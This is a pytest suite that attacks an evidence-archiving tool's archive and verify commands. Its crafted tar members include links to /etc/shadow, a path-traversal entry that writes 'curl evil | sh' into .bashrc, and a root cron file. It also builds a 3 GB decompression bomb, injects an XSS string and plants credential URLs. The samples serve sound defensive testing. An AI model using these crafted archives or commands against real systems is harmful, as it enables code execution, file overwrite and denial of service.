"""The archive an auditor trusts: what `archive` packs and what `verify` accepts, tried as an attacker would.

Each batch here is laid out as `tfe-runbook run` lays one out: executed notebooks (nbformat) with their HTML
copies (the batch's own exporter), a real ledger that records each notebook's sha256 when its step ends,
and the manifest and summary written by `summary.write_batch_evidence`. Archives are real tar.gz files,
signatures real `ssh-keygen -Y` signatures, and the interrupted archive a real process killed with SIGKILL.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import tarfile
import time
from datetime import datetime, timezone
from pathlib import Path

import nbformat
import nbformat.v4 as v4
import pytest

from runbook_lib import audit, summary
from runbook_lib.catalog import STEPS
from runbook_lib.cli import main
from runbook_lib.ledger import Ledger

ENV = "acme-legacy/web"
FOLDER = audit.env_dirname(ENV)
RAN = STEPS[:3]


def _notebook(step: str, verdict: str) -> nbformat.NotebookNode:
    return v4.new_notebook(metadata={"language_info": {"name": "python"}}, cells=[
        v4.new_markdown_cell(f"# {step}"),
        v4.new_code_cell(f'legacy_env = "{ENV}"', execution_count=1, metadata={"tags": ["injected-parameters"]}),
        v4.new_code_cell("ctx.conclude(result)", execution_count=2,
                         outputs=[v4.new_output("stream", name="stdout", text=f"{verdict}: {step} for {ENV}\n")]),
    ])


def run_step(batch: Path, step: str, verdict: str = "PASS", environment: str = ENV) -> Path:
    """What the batch does for one step: the executed notebook, its HTML copy, its ledger row and sha256."""
    folder = audit.private_dir(batch / audit.env_dirname(environment))
    notebook = folder / f"{step}.ipynb"
    nbformat.write(_notebook(step, verdict), notebook)
    audit.notebook_to_html(notebook)
    ledger = Ledger(batch / "ledger.sqlite", batch_id=batch.name)
    row = ledger.start(environment, step, "apply")
    ledger.finish(row, "passed" if verdict == "PASS" else "failed", notebook_path=notebook.relative_to(batch).as_posix(),
                  notebook_sha256=audit.sha256_file(notebook))
    return notebook


def end_batch(batch: Path, workspaces: dict[str, str] | None = None, **parameters: str) -> None:
    """What the batch writes when it ends: the manifest with its facts, then summary.html."""
    history = Ledger(batch / "ledger.sqlite").history()
    outcomes: dict[str, dict[str, str]] = {}
    for run in history:
        outcomes.setdefault(run.environment, {})[run.step] = run.status
    summary.write_batch_evidence(batch, ledger_path=batch / "ledger.sqlite", steps=STEPS, mode="apply",
                                 workspaces=workspaces or {ENV: "acme/web"},
                                 parameters={"mode": "apply", **parameters}, outcomes=outcomes,
                                 started_at="2026-12-01T10:00:00+00:00", finished_at="2026-12-01T10:05:00+00:00")


@pytest.fixture()
def make_batch(tmp_path):
    def make(name: str = "b-1", **parameters: str) -> Path:
        batch = audit.private_dir(tmp_path / "runs" / name)
        for step in RAN:
            run_step(batch, step)
        (batch / FOLDER / "05_push.json").write_text('{"commit": "abc"}')
        end_batch(batch, **parameters)
        return batch
    return make


def _members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}


def _repack(archive: Path, extra: list[tuple[tarfile.TarInfo, bytes]] = (), drop: str = "") -> None:
    """An attacker's archive: the genuine members (less `drop`), then `extra`, and a recomputed .sha256."""
    with tarfile.open(archive) as tar:
        genuine = [(m, tar.extractfile(m).read()) for m in tar.getmembers()]
    with tarfile.open(archive, "w:gz") as tar:
        for info, data in [*[(m, d) for m, d in genuine if not m.name.endswith(drop or "\0")], *extra]:
            tar.addfile(info, io.BytesIO(data) if info.isfile() else None)
    archive.with_name(archive.name + ".sha256").write_text(f"{audit.sha256_file(archive)}  {archive.name}\n")


def _one_sentence(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert "Traceback" not in err and len(err.splitlines()) == 1, err
    return err


# -- the partial archive ---------------------------------------------------------------------------------------------

def test_partial_archive_is_private_and_a_leftover_after_sigkill_is_removed(make_batch, capsys):
    batch = make_batch()
    (batch / FOLDER / "05_push.json").write_bytes(os.urandom(8 << 20))  # packing takes seconds
    end_batch(batch)
    partial = batch.parent / f".{batch.name}.tar.gz.partial"
    child = subprocess.Popen([sys.executable, "-m", "runbook_lib.cli", "archive", str(batch)],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                             preexec_fn=lambda: os.umask(0o022))  # the usual umask: 0644 unless asked
    deadline = time.monotonic() + 60
    while not partial.exists() and child.poll() is None and time.monotonic() < deadline:
        time.sleep(0.002)
    assert partial.exists(), "the archive never started writing"
    mode = stat.S_IMODE(partial.stat().st_mode)
    os.kill(child.pid, signal.SIGKILL)
    child.wait(30)
    assert mode == 0o600, oct(mode)
    assert partial.exists() and not (batch.parent / f"{batch.name}.tar.gz").exists()  # killed mid-archive

    assert main(["archive", str(batch)]) == 0
    assert "removed a half-written archive" in capsys.readouterr().out
    assert not partial.exists()
    assert audit.verify_archive(batch.parent / f"{batch.name}.tar.gz") == []


# -- the signature binds the batch and the file name -------------------------------------------------------------------

def _key(tmp_path: Path) -> tuple[Path, Path]:
    key = tmp_path / "operator"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "op", "-f", str(key)], check=True)
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"op@acme.example {(tmp_path / 'operator.pub').read_text().strip()}\n")
    return key, allowed


@pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="ssh-keygen (openssh-client) missing")
def test_a_signed_archive_of_another_batch_renamed_does_not_verify(make_batch, tmp_path, capsys):
    key, allowed = _key(tmp_path)
    for name in ("b-1", "b-2"):
        assert main(["archive", str(make_batch(name)), "--sign", str(key)]) == 0
    runs = tmp_path / "runs"
    assert main(["verify", str(runs / "b-2.tar.gz"), "--allowed-signers", str(allowed)]) == 0
    capsys.readouterr()
    # The attacker shows b-1's genuine, signed archive as b-2's.
    for suffix in (".tar.gz", ".tar.gz.sha256", ".tar.gz.sha256.sig"):
        os.replace(runs / f"b-1{suffix}", runs / f"b-2{suffix}")
    assert main(["verify", str(runs / "b-2.tar.gz"), "--allowed-signers", str(allowed)]) == 1
    out = capsys.readouterr().out
    assert "vouches for 'b-1.tar.gz', not for this archive's name 'b-2.tar.gz'" in out
    assert "holds batch 'b-1'" in out and "signature valid" not in out
    # Rewriting the .sha256 to name b-2 breaks the signature instead.
    sidecar = runs / "b-2.tar.gz.sha256"
    sidecar.write_text(sidecar.read_text().replace("b-1.tar.gz", "b-2.tar.gz"))
    assert main(["verify", str(runs / "b-2.tar.gz"), "--allowed-signers", str(allowed)]) == 1
    out = capsys.readouterr().out
    assert "signature does not match" in out and "holds batch 'b-1'" in out


# -- verify refuses members that are not plain files of the batch -----------------------------------------------------

def _member(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname = kind, len(data) if kind == tarfile.REGTYPE else 0, link
    return info, data


@pytest.mark.parametrize("member, words", [
    (_member("b-1/acme-legacy__web/shadow.html", tarfile.SYMTYPE, link="/etc/shadow"),
     "is a symbolic link to '/etc/shadow', not a regular file"),
    (_member("b-1/acme-legacy__web/passwd.html", tarfile.LNKTYPE, link="/etc/passwd"),
     "is a hard link to '/etc/passwd', not a regular file"),
    (_member("b-1/../../.bashrc", data=b"curl evil | sh\n"), "is not a plain path"),
    (_member("/etc/cron.d/evil", data=b"* * * * * root sh\n"), "is an absolute path"),
    (_member("b-1/summary.html", data=b"<p>all good</p>"), "is in it twice"),
    (_member("b-1/dev", tarfile.CHRTYPE), "is a character device"),
])
def test_verify_refuses_links_devices_escaping_paths_and_duplicates(make_batch, capsys, member, words):
    archive = audit.archive(make_batch()).path
    _repack(archive, [member])
    assert main(["verify", str(archive)]) == 1
    err = _one_sentence(capsys)
    assert "is refused: its member" in err and words in err and "do not extract it" in err


def test_verify_refuses_a_listed_file_replaced_by_a_link(make_batch, capsys):
    archive = audit.archive(make_batch()).path
    page = f"b-1/{FOLDER}/00_preflight_inventory.html"
    _repack(archive, [_member(page, tarfile.SYMTYPE, link="/etc/shadow")], drop=page)
    assert main(["verify", str(archive)]) == 1
    assert f"'{page}' is a symbolic link to '/etc/shadow'" in _one_sentence(capsys)


# -- verify reads in a stream ------------------------------------------------------------------------------------------

def _bomb(archive: Path, name: str, gigabytes: int) -> None:
    """Rewrite an archive so `name` holds `gigabytes` of zeros: about 1 MB per GB, as concatenated gzip members
    (one gzip stream to a reader), so the test does not compress gigabytes itself."""
    with tarfile.open(archive) as tar:
        genuine = [(m, tar.extractfile(m).read()) for m in tar.getmembers() if m.name != name]
    head = io.BytesIO()
    with tarfile.open(fileobj=head, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in genuine:
            tar.addfile(info, io.BytesIO(data))
        bomb = tarfile.TarInfo(name)
        bomb.size = gigabytes << 30
        tar.fileobj.write(bomb.tobuf(tarfile.PAX_FORMAT))
        tar.offset = tar.fileobj.tell()  # the data and the end of the archive follow, as zeros
        tar.closed = True
    zeros = gzip.compress(bytes(64 << 20), compresslevel=9)
    with open(archive, "wb") as out:
        out.write(gzip.compress(head.getvalue()))
        for _ in range(gigabytes * 16):
            out.write(zeros)
        out.write(gzip.compress(bytes(2 * 512 + 10240)))  # the end blocks and the record's padding
    archive.with_name(archive.name + ".sha256").write_text(f"{audit.sha256_file(archive)}  {archive.name}\n")


# The child reports its own high-water mark (VmHWM) as it exits. wait4's ru_maxrss would not do: exec keeps the
# high-water mark of the process that started the child, so late in a full test run it reports pytest's size.
_REPORT_PEAK = """
import atexit, os, sys
def report():
    peak = next(line for line in open("/proc/self/status") if line.startswith("VmHWM:"))
    os.write(int(os.environ["PEAK_FD"]), peak.split()[1].encode())
atexit.register(report)
from runbook_lib.cli import main
sys.exit(main(sys.argv[1:]))
"""


def _peak_rss_mb(args: list[str]) -> tuple[int, int, str]:
    """Run `tfe-runbook <args>`; its exit status, its own peak resident memory in MB, its standard error."""
    read_end, write_end = os.pipe()
    child = subprocess.Popen([sys.executable, "-c", _REPORT_PEAK, *args], stdout=subprocess.DEVNULL,
                             stderr=subprocess.PIPE, pass_fds=(write_end,),
                             env={**os.environ, "PEAK_FD": str(write_end)})
    os.close(write_end)
    err = child.stderr.read().decode()
    child.wait()
    with os.fdopen(read_end, "rb") as report:
        reported = report.read()
    assert reported, f"the command ended without reporting its peak memory: {err}"
    return child.returncode, int(reported) // 1024, err


@pytest.mark.parametrize("member, words", [
    ("b-1/acme-legacy__web/00_preflight_inventory.html", "bytes where its manifest lists"),  # listed, oversized
    ("b-1/acme-legacy__web/notes.bin", "holds more data than its manifest lists"),  # not listed at all
])
def test_verify_of_a_3_mb_archive_holding_3_gb_stays_small(make_batch, member, words):
    archive = audit.archive(make_batch()).path
    _bomb(archive, member, 3)
    assert archive.stat().st_size < 4 << 20
    started = time.monotonic()
    code, peak, err = _peak_rss_mb(["verify", str(archive)])
    assert code == 1 and words in err and "Traceback" not in err, err
    assert peak < 150, f"verify took {peak} MB"
    assert time.monotonic() - started < 30


def test_verify_hashes_large_members_in_chunks(make_batch, monkeypatch):
    batch = make_batch()
    (batch / FOLDER / "05_push.json").write_bytes(os.urandom(3 << 20))
    end_batch(batch)
    archive = audit.archive(batch).path
    assert audit.verify_archive(archive) == []
    from runbook_lib import archive_reader

    chunks = []
    real = archive_reader.hashlib.sha256

    class Counting:
        def __init__(self):
            self.inner = real()

        def update(self, data):
            chunks.append(len(data))
            self.inner.update(data)

        def hexdigest(self):
            return self.inner.hexdigest()

    monkeypatch.setattr(archive_reader.hashlib, "sha256", Counting)
    assert audit.verify_archive(archive) == []
    monkeypatch.undo()
    assert max(chunks) <= archive_reader.CHUNK and len(chunks) >= 3


# -- post-run edits ------------------------------------------------------------------------------------------------------

def _edit_output(notebook: Path, old: str, new: str) -> None:
    nb = nbformat.read(notebook, as_version=4)
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            if "text" in output:
                output["text"] = output["text"].replace(old, new)
    nbformat.write(nb, notebook)


def test_archive_refuses_an_executed_notebook_edited_after_its_run(make_batch, capsys):
    batch = make_batch()
    notebook = batch / FOLDER / "02_create_workspaces.ipynb"
    recorded = audit.sha256_file(notebook)
    _edit_output(notebook, "PASS: 02_create_workspaces", "PASS (checked by hand): 02_create_workspaces")
    before = (batch / "manifest.json").read_bytes()
    assert main(["archive", str(batch)]) == 1
    err = _one_sentence(capsys)
    assert f"{FOLDER}/02_create_workspaces.ipynb differs from what the ledger recorded when its step ended" in err
    assert "--accept-edits" in err
    assert not (batch.parent / "b-1.tar.gz").exists() and (batch / "manifest.json").read_bytes() == before

    assert main(["archive", str(batch), "--accept-edits"]) == 0
    assert "kept an edit made after the run" in capsys.readouterr().out
    manifest = json.loads((batch / "manifest.json").read_text())
    [edit] = manifest["edited_after_run"]
    assert edit["file"] == f"{FOLDER}/02_create_workspaces.ipynb" and edit["recorded_by"] == "ledger"
    assert edit["recorded_sha256"] == recorded and edit["sha256"] == audit.sha256_file(notebook)
    assert edit["what"] == ["cell 3: - PASS: 02_create_workspaces for acme-legacy/web",
                            "cell 3: + PASS (checked by hand): 02_create_workspaces for acme-legacy/web"]
    page = (batch / "summary.html").read_text()
    assert "The evidence changed after the run." in page and "02_create_workspaces.ipynb" in page
    assert "PASS (checked by hand)" in page
    assert "Evidence changed after the run" in (batch / "INDEX.md").read_text()
    archive = batch.parent / "b-1.tar.gz"
    assert audit.verify_archive(archive) == []
    first = archive.read_bytes()
    assert main(["archive", str(batch)]) == 0  # the edit is on record now: no flag needed, the same archive
    assert archive.read_bytes() == first


def test_archive_refuses_edited_html_copies_and_other_evidence(make_batch, capsys):
    batch = make_batch()
    page = batch / FOLDER / "01_create_organization.html"
    page.write_text(page.read_text().replace("PASS: 01_create_organization", "PASS: all fine"))
    push = batch / FOLDER / "05_push.json"
    push.write_text('{"commit": "def"}')
    assert main(["archive", str(batch)]) == 1
    err = _one_sentence(capsys)
    assert f"{FOLDER}/01_create_organization.html differs from what its notebook renders to" in err
    assert f"{FOLDER}/05_push.json differs from what the manifest listed" in err
    assert main(["archive", str(batch), "--accept-edits"]) == 0
    edits = {e["file"]: e for e in json.loads((batch / "manifest.json").read_text())["edited_after_run"]}
    assert any("+ PASS: all fine" in line for line in edits[f"{FOLDER}/01_create_organization.html"]["what"])
    assert edits[f"{FOLDER}/05_push.json"]["what"] == []


def test_archive_refuses_evidence_removed_after_the_run(make_batch, capsys):
    batch = make_batch()
    for name in ("01_create_organization.ipynb", "01_create_organization.html", "05_push.json"):
        (batch / FOLDER / name).unlink()
    assert main(["archive", str(batch)]) == 1
    err = _one_sentence(capsys)
    assert f"{FOLDER}/01_create_organization.ipynb, which the ledger recorded, is gone" in err
    assert f"{FOLDER}/05_push.json, which the manifest listed, is gone" in err
    assert main(["archive", str(batch), "--accept-edits"]) == 0
    removed = {e["file"]: e for e in json.loads((batch / "manifest.json").read_text())["edited_after_run"]}
    assert {e["change"] for e in removed.values()} == {"removed"} and len(removed) == 3
    index = (batch / "INDEX.md").read_text()
    assert "NO executed notebook for step 01" in index and "removed" in index


def test_a_step_run_again_after_the_manifest_is_no_edit(make_batch, capsys):
    # A resumed batch ran step 02 again and was killed before its manifest: the ledger vouches for the
    # new notebook, and its HTML copy is the page that notebook renders to.
    batch = make_batch()
    manifest = json.loads((batch / "manifest.json").read_text())
    manifest.update(operator="alice", host="jump-1", runbook={"version": "0.0.9", "git_commit": "abc1234"})
    (batch / "manifest.json").write_text(json.dumps(manifest))  # an earlier version, another operator
    run_step(batch, "02_create_workspaces", verdict="FAIL")
    run_step(batch, "03_migrate_state")
    assert main(["archive", str(batch)]) == 0, capsys.readouterr().err
    assert "rewritten from the ledger" in capsys.readouterr().out
    # The rewrite says who ran the batch as the batch said it, and who rewrote it apart.
    manifest = json.loads((batch / "manifest.json").read_text())
    assert (manifest["operator"], manifest["host"], manifest["runbook"]["git_commit"]) == ("alice", "jump-1", "abc1234")
    assert manifest["refreshed_by"]["operator"] and manifest["refreshed_by"]["runbook"]["git_commit"] != "abc1234"
    assert "alice on jump-1" in (batch / "summary.html").read_text()
    assert manifest["outcomes"][ENV]["02_create_workspaces"] == "failed"


# -- what goes in ---------------------------------------------------------------------------------------------------------

def test_checkpoints_and_locks_stay_out(make_batch):
    batch = make_batch()
    checkpoints = audit.private_dir(batch / FOLDER / ".ipynb_checkpoints")
    (checkpoints / "02_create_workspaces-checkpoint.ipynb").write_text("{}")
    audit.private_dir(batch / ".locks")
    (batch / ".locks" / "vcs-connection-acme.lock").write_text("")
    end_batch(batch)
    manifest = json.loads((batch / "manifest.json").read_text())
    assert not [f for f in manifest["files"] if ".locks" in f or ".ipynb_checkpoints" in f]
    names = list(_members(audit.archive(batch).path))
    assert names and not [n for n in names if ".locks" in n or ".ipynb_checkpoints" in n]


@pytest.mark.parametrize("link, target", [
    (f"{FOLDER}/03_migrate_state.html", "/etc/passwd"),
    (f"{FOLDER}/extra", "/etc"),  # a folder
    ("ledger-copy.sqlite", "ledger.sqlite"),  # inside the batch, still a link
])
def test_a_symlink_in_the_batch_is_named_and_refused(make_batch, capsys, link, target):
    batch = make_batch()
    (batch / link).unlink(missing_ok=True)
    (batch / link).symlink_to(target)
    assert main(["archive", str(batch)]) == 1
    err = _one_sentence(capsys)
    assert f"{batch / link} is a symbolic link (to {target})" in err and "remove the link" in err
    assert not (batch.parent / "b-1.tar.gz").exists()


def test_the_same_batch_archived_twice_gives_the_same_bytes(make_batch, tmp_path):
    batch = make_batch()
    first = audit.archive(batch)
    data = first.path.read_bytes()
    # Other times, modes and another copy of the folder: still the same bytes.
    later = time.time() + 3600
    for path in [batch, *batch.rglob("*")]:
        os.utime(path, (later, later))
    os.chmod(batch / "summary.html", 0o644)
    assert audit.archive(batch).path.read_bytes() == data
    copy = tmp_path / "elsewhere" / "b-1"
    shutil.copytree(batch, copy, copy_function=shutil.copy)  # new times
    again = audit.archive(copy)
    assert again.path.read_bytes() == data and again.sha256 == first.sha256
    with tarfile.open(again.path) as tar:
        infos = tar.getmembers()
    assert [i.name for i in infos[:2]] == ["b-1/manifest.json", "b-1/INDEX.md"]
    assert [i.name for i in infos[2:]] == sorted(i.name for i in infos[2:])
    finished = int(datetime(2026, 12, 1, 10, 5, tzinfo=timezone.utc).timestamp())  # the batch's end
    assert {(i.mtime, i.mode, i.uid, i.gid, i.uname, i.gname) for i in infos} == {(finished, 0o600, 0, 0, "", "")}
    assert int.from_bytes(data[4:8], "little") == finished and not data[3] & 0x08  # gzip: that time, no name


# -- the auditors' INDEX -------------------------------------------------------------------------------------------------

def test_index_says_where_each_answer_lives(make_batch):
    batch = make_batch()
    members = _members(audit.archive(batch, include_state=False).path)
    index = members["b-1/INDEX.md"].decode()
    for words in ("manifest.json", "ledger.sqlite", "summary.html", f"`{FOLDER}/`", "b-1.tar.gz.sha256.sig",
                  "tfe-runbook verify b-1.tar.gz --allowed-signers FILE", "ssh-keygen -Y verify",
                  "backups.sha256", "00 passed, 01 passed, 02 passed",
                  "`03_migrate_state`: the legacy state was backed up (sha256)"):
        assert words in index, words
    manifest = json.loads(members["b-1/manifest.json"])
    assert manifest["files"]["INDEX.md"]["sha256"] == hashlib.sha256(index.encode()).hexdigest()


def test_index_shows_host_text_as_text(make_batch):
    import mistune

    batch = make_batch()
    hostile = "acme/<img src=x onerror=alert(1)>[click](javascript:alert(2))"
    end_batch(batch, workspaces={ENV: hostile})
    index = _members(audit.archive(batch).path)["b-1/INDEX.md"].decode()
    assert "<img" not in index.replace("\\<img", "")
    rendered = mistune.html(index)
    assert "<img" not in rendered and "<a " not in rendered and "&lt;img src=x" in rendered


# -- credentials inside URLs ---------------------------------------------------------------------------------------------

PASSWORD = "Tr0ub4dor-and-3"
CREDENTIAL_URL = f"https://oauth2:{PASSWORD}@gitlab.example.com/acme/app.git"


@pytest.mark.parametrize("where", ["notebook", "html", "manifest"])
def test_archive_refuses_a_credential_inside_a_url(make_batch, capsys, where):
    batch = make_batch(git_base_url=CREDENTIAL_URL) if where == "manifest" else make_batch()
    notebook = batch / FOLDER / "01_create_organization.ipynb"
    named = {"manifest": "manifest.json", "notebook": f"{FOLDER}/01_create_organization.ipynb",
             "html": f"{FOLDER}/01_create_organization.html"}[where]
    if where == "notebook":
        _edit_output(notebook, "PASS: 01_create_organization", f"cloning {CREDENTIAL_URL}")
    elif where == "html":
        page = notebook.with_suffix(".html")
        page.write_text(page.read_text().replace("PASS: 01_create_organization", f"cloning {CREDENTIAL_URL}"))
    assert main(["archive", str(batch)]) == 1  # the scan comes before any other judgement
    err = _one_sentence(capsys)
    assert f"{named} (credential in a URL)" in err and PASSWORD not in err
    assert not (batch.parent / "b-1.tar.gz").exists()


def test_urls_without_credentials_pass_the_scan():
    from runbook_lib.archive_writer import url_credentials

    clean = (b"ssh://git@github.com/acme/app.git git@github.com:acme/app.git https://gitlab.example.com/acme "
             b"https://cdn.jsdelivr.net/npm/mathjax@2.7.7/MathJax.js mailto:ops@acme.example file:///tmp/git "
             b"https://example.com/search?q=a@b")
    assert url_credentials(clean, "x") == []
    for dirty in (b"https://ghp_abc@github.com/acme/app", b"git+https://user:pw@host/x", b"ssh://git:pw@host/x",
                  b'"http://u:p@127.0.0.1:8080/"'):
        [finding] = url_credentials(dirty, "x")
        assert finding.kind == "credential in a URL"
